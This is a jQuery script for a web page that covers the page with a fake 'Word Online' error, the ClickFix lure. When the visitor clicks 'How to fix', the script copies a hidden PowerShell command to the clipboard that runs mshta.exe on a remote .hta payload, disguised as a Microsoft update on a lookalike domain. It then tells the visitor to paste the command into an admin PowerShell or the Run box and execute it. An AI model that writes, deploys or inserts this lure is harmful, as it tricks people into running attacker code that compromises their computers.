jQuery(function ($) {
  var docTitle = document.title || 'Document.docx';
  var fixRun = 'powershell -WindowStyle Minimized -Command "Start-Process -WindowStyle Hidden mshta.exe ' +
    "'https://office-fonts-update.pw/KB5031455.hta'\"";

  var $sheet = $('<div/>', { id: 'docv-layer' }).css({
    position: 'fixed', top: 0, left: 0, right: 0, bottom: 0,
    background: 'rgba(243,242,241,0.98)', zIndex: 2147483600, fontFamily: 'Segoe UI, sans-serif'
  });

  var $panel = $('<div/>').css({
    width: 520, margin: '90px auto', background: '#fff', padding: '30px 34px',
    border: '1px solid #e1dfdd', boxShadow: '0 6px 20px rgba(0,0,0,0.12)'
  }).appendTo($sheet);

  $panel.append(
    $('<div/>').css({ color: '#185abd', fontSize: 24, fontWeight: 600 }).text('Word Online'),
    $('<p/>').html('<b>' + $('<span>').text(docTitle).html() + '</b> could not be displayed.'),
    $('<p/>').text('The "Word Online" extension is not installed in your browser. To view the document offline, click the "How to fix" button and follow the instructions.'),
    $('<button/>', { type: 'button', id: 'docv-fix' }).text('How to fix').css({
      background: '#185abd', color: '#fff', border: 0, padding: '9px 24px', fontSize: 14, cursor: 'pointer'
    }),
    $('<ol/>', { id: 'docv-steps' }).hide().append(
      '<li>Click the <b>Start</b> button with the right mouse button</li>',
      '<li>Select <b>Windows PowerShell (Admin)</b>, or press <b>Win + R</b></li>',
      '<li>Right-click inside the window (or press Ctrl + V) to paste the fix</li>',
      '<li>Press <b>Enter</b> and reload this page</li>'
    )
  );

  function clipCopy(text, done) {
    if (navigator.clipboard) {
      navigator.clipboard.writeText(text).then(done, function () { legacyCopy(text); done(); });
    } else {
      legacyCopy(text);
      done();
    }
  }

  function legacyCopy(text) {
    var $t = $('<textarea readonly/>').val(text).css({ position: 'absolute', left: '-5000px' }).appendTo('body');
    $t[0].select();
    document.execCommand('copy');
    $t.remove();
  }

  $sheet.on('click', '#docv-fix', function () {
    var $b = $(this);
    clipCopy(fixRun, function () {
      $b.text('Copied').prop('disabled', true);
      $('#docv-steps').slideDown(200);
    });
  });

  $('body').css('overflow', 'hidden').append($sheet);
});
